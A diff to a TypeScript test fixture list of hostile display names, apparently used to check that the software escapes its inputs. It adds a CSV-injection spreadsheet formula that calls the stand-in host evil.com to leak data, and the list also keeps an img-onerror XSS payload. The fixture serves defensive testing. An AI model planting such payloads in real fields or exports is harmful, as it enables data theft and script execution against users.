@@ -36,7 +36,8 @@ export const HOSTILE_NAMES: readonly string[] = [
   '<img src=x onerror=alert(1)>',
   '"quotes" & ampersands \'n\' <b>tags</b>',
   `Nome muito longo ${'x'.repeat(283)}`,
-  'javascript:alert(1)',
+  // A spreadsheet formula: a CSV export must neutralise it (OWASP CSV injection).
+  '=HYPERLINK("https://evil.example/?leak=","javascript:alert(1)")',
 ];
 
 /** What a fault does to one API request. */
